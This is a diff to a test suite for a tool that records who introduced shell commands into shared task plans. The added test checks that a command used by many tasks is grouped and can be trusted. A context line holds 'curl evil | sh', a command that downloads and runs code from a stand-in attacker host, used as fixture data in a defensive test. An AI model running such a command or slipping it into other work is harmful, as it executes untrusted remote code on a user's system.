@@ -396,3 +396,19 @@ def test_trust_names_who_introduced_a_command_through_a_merge(clones: Callable[[
     hostile = next(i for i in items if i["command"] == "curl evil | sh")
     assert hostile["introduced_by"] == "Mallory"
     assert "Edited" in hostile["log"]
+
+
+def test_trust_groups_a_command_used_by_many_tasks(clones: Callable[[str], Path]) -> None:
+    a = clones("a")
+    ok("init", cwd=a)
+    plan = "".join(f'[[task]]\nid = "t{n:03d}"\ntitle = "task {n}"\ncheck = "pytest -q"\n' for n in range(300))
+    (a / "plan.toml").write_text(plan)
+    ok("import", str(a / "plan.toml"), cwd=a)
+    ok("sync", cwd=a)
+    b = clones("b")
+    ok("sync", cwd=b)
+    items = json.loads(run("trust", "--json", cwd=b).out)
+    assert len(items) == 1 and len(items[0]["uses"]) == 300 and items[0]["introduced_by"] == "Test Author"
+    assert "and 299 more use(s)" in run("trust", cwd=b).out
+    ok("trust", "t150", cwd=b)
+    assert json.loads(run("trust", "--json", cwd=b).out) == []
